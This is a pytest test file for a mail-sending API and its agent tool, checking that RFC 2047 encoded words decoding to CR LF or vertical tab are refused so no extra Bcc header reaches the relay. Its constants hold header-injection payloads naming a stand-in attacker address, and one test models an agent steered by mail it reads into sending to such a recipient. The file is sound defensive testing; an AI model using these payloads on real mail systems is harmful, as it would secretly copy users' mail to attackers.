"""Header injection through RFC 2047 encoded words in outbound mail (docs/agents-mail.md):
Python's email package decodes an encoded word in a recipient's local part, the persona's
name or the subject when the header is set, and wrote what it decoded to (CR LF, VT) out
raw. Each is now a 422 naming the header, and the relay (a real one on loopback) receives
nothing."""
# ruff: noqa: F811

from __future__ import annotations

import uuid
from collections.abc import Callable
from typing import Any

import httpx
import pytest
from pydantic import SecretStr

from roost.agents import mail
from roost.config import Settings
from roost.db.engine import Database
from roost.tasks.worker import Worker
from tests.agents.conftest import Headers, wait_for_run
from tests.agents.test_mail import (  # noqa: F401
    address,
    emails_of,
    mail_cfg,
    mailing_agent,
    make_persona,
    relay_factory,
)
from tests.chat.conftest import add_provider
from tests.support.openai_stub import StubServer
from tests.support.openai_stub.script import Call, Reply, ToolCalls

BODY: dict[str, Any] = {"to": ["bob@example.org"], "subject": "Hi", "body": "x"}
INJECT_LOCAL = "=?utf-8?q?x=0D=0ABcc=3A_evil=40attacker.example?=@example.org"


async def relay_on(relay_factory: Callable[..., Any], test_settings: Settings) -> Any:
    relay = await relay_factory()
    test_settings.smtp_relay_url = SecretStr(f"smtp://127.0.0.1:{relay.port}")
    return relay


# --- header injection ----------------------------------------------------------------


async def test_an_encoded_word_recipient_is_refused_and_nothing_is_sent(
    client: httpx.AsyncClient, database: Database, relay_factory: Callable[..., Any],
    test_settings: Settings, user: tuple[uuid.UUID, Headers],
) -> None:
    """A user expects a recipient that is not a plain address to be refused (docs: "header
    injection cannot happen"). A local part that is an RFC 2047 encoded word
    (``=?utf-8?q?x=0D=0ABcc=3A_evil...?=@example.org``) passes email_validator, and Python's
    email package decodes it when the To/Cc header is set: the relay receives a header
    block with a CR LF and an extra ``Bcc:`` line (201, the mail is sent)."""
    owner, headers = user
    persona = await make_persona(database, owner, address())
    relay = await relay_on(relay_factory, test_settings)
    resp = await client.post(f"/api/v1/personas/{persona.id}/emails", headers=headers,
                             json={**BODY, "to": [INJECT_LOCAL]})
    cc = await client.post(f"/api/v1/personas/{persona.id}/emails", headers=headers,
                           json={**BODY, "cc": [INJECT_LOCAL]})
    assert (resp.status_code, cc.status_code) == (422, 422), (resp.text, cc.text)
    assert ([e["loc"][-1] for e in resp.json()["errors"]],
            [e["loc"][-1] for e in cc.json()["errors"]]) == (["to"], ["cc"])
    assert "encoded word" in resp.text
    assert relay.received == []


async def test_an_encoded_word_persona_name_refuses_the_mail(
    client: httpx.AsyncClient, database: Database, relay_factory: Callable[..., Any],
    test_settings: Settings, user: tuple[uuid.UUID, Headers],
) -> None:
    """The API refuses line breaks in a persona's name so the sender name is one header line;
    a name that is an encoded word decoding to CR LF (``=?utf-8?q?Iris=0D=0ABcc...?=``) is
    accepted, and sending from it puts a raw CR LF and a ``Bcc:`` line into the From header
    the relay receives."""
    _, headers = user
    created = await client.post("/api/v1/personas", headers=headers, json={
        "name": "=?utf-8?q?Iris=0D=0ABcc=3A_evil=40attacker.example?=",
        "email_address": address()})
    assert created.status_code == 201, created.text
    relay = await relay_on(relay_factory, test_settings)
    resp = await client.post(f"/api/v1/personas/{created.json()['id']}/emails",
                             headers=headers, json=BODY)
    assert resp.status_code == 422 and resp.json()["field"] == "from", resp.text
    assert relay.received == []


async def test_an_agents_encoded_word_recipient_fails_its_step_and_sends_nothing(
    client: httpx.AsyncClient, admin_headers: Headers, stub: StubServer, database: Database,
    user: tuple[uuid.UUID, Headers], worker: Worker, relay_factory: Callable[..., Any],
    mail_cfg: mail.MailConfig, monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The same recipient through the agent path (whoever writes the mail an agent reads
    can steer its model to it): the send_email step fails naming the encoded word, the run
    goes on, and nothing reaches the relay (an injected ``Bcc:`` line did)."""
    owner, headers = user
    await add_provider(client, admin_headers, stub)
    _, agent, relay = await mailing_agent(database, owner, relay_factory, mail_cfg,
                                          monkeypatch)
    stub.script(ToolCalls(Call("send_email", {"to": [INJECT_LOCAL], "subject": "Report",
                                               "body": "All done."})), Reply("Sent."))
    run = (await client.post(f"/api/v1/agents/{agent.id}/runs", json={"input": "mail"},
                             headers=headers)).json()
    done = await wait_for_run(client, headers, run["id"])
    assert done["status"] == "completed", done
    steps = (await client.get(f"/api/v1/runs/{run['id']}/steps", headers=headers)).json()
    sent = next(s for s in (steps["items"] if isinstance(steps, dict) else steps)
                if s["step_type"] == "tool_call")
    assert sent["status"] == "failed" and "encoded word" in (sent["error"] or ""), sent
    assert relay.received == []


async def test_a_subject_whose_encoded_word_decodes_to_a_vertical_tab_is_refused(
    client: httpx.AsyncClient, database: Database, relay_factory: Callable[..., Any],
    test_settings: Settings, user: tuple[uuid.UUID, Headers],
) -> None:
    """Docs: a subject with any str.splitlines break (VT included), or with an encoded word
    that decodes to one, is refused with 422. An encoded word decoding to VT
    (``=?utf-8?q?Hi=0BBcc...?=``) is accepted (201) and the relay receives a raw VT inside
    the Subject header (``Subject: Hi\x0bBcc: evil@x.org``)."""
    owner, headers = user
    persona = await make_persona(database, owner, address())
    relay = await relay_on(relay_factory, test_settings)
    resp = await client.post(f"/api/v1/personas/{persona.id}/emails", headers=headers,
                             json={**BODY, "subject": "=?utf-8?q?Hi=0BBcc=3A_evil=40x.org?="})
    assert resp.status_code == 422 and resp.json()["field"] == "subject", resp.text
    assert relay.received == []


async def test_a_subject_holding_a_whole_encoded_word_is_refused_not_sent_decoded(
    client: httpx.AsyncClient, database: Database, relay_factory: Callable[..., Any],
    test_settings: Settings, user: tuple[uuid.UUID, Headers],
) -> None:
    """A subject holding an encoded word (``=?utf-8?q?hi?= plain``) is a 422 naming it and
    nothing is sent: it was stored as written while the recipient read it decoded (``hi
    plain``, or any text the sender never saw).  "x=?y" stays a subject like any other."""
    owner, headers = user
    persona = await make_persona(database, owner, address())
    relay = await relay_factory()
    test_settings.smtp_relay_url = SecretStr(f"smtp://127.0.0.1:{relay.port}")
    subject = "=?utf-8?q?hi?= plain"
    resp = await client.post(f"/api/v1/personas/{persona.id}/emails", headers=headers,
                             json={"to": ["bob@example.org"], "subject": subject, "body": "b"})
    assert resp.status_code == 422 and resp.json()["field"] == "subject", resp.text
    assert relay.received == []
    plain = await client.post(f"/api/v1/personas/{persona.id}/emails", headers=headers,
                              json={"to": ["bob@example.org"], "subject": "x=?y", "body": "b"})
    assert plain.status_code == 201, plain.text
    assert str(relay.parsed()["Subject"]) == "x=?y"


async def test_a_reply_to_a_non_ascii_message_id_is_not_written_as_an_encoded_word(
    client: httpx.AsyncClient, database: Database, relay_factory: Callable[..., Any],
    mail_cfg: mail.MailConfig, test_settings: Settings,
    user: tuple[uuid.UUID, Headers],
) -> None:
    """A reply to inbound mail with a UTF-8 Message-ID (``<café@example.org>``, stored and
    threaded on) leaves that id out of In-Reply-To/References, as ids Roost cannot write
    are: it was written as an RFC 2047 encoded word, which no mail client threads on."""
    owner, headers = user
    persona = await make_persona(database, owner, address())
    raw = (f"From: Alice <alice@example.org>\r\nTo: {persona.email_address}\r\n"
           "Subject: Hello\r\nMessage-ID: <café@example.org>\r\n\r\nhi\r\n").encode()
    [received] = await mail.receive(database, mail_cfg, raw, [str(persona.email_address)],
                                    sender="alice@example.org")
    relay = await relay_factory()
    test_settings.smtp_relay_url = SecretStr(f"smtp://127.0.0.1:{relay.port}")
    resp = await client.post(f"/api/v1/personas/{persona.id}/emails", headers=headers,
                             json={"to": ["alice@example.org"], "subject": "Re: Hello",
                                   "body": "b", "in_reply_to": str(received.email_id)})
    assert resp.status_code == 201, resp.text
    assert resp.json()["thread_id"] == "<café@example.org>"
    head = relay.received[-1][2].split(b"\r\n\r\n", 1)[0].replace(b"\r\n ", b" ")
    threading = [line for line in head.split(b"\r\n")
                 if line.lower().startswith((b"in-reply-to:", b"references:"))]
    for line in threading:
        assert b"=?" not in line, line
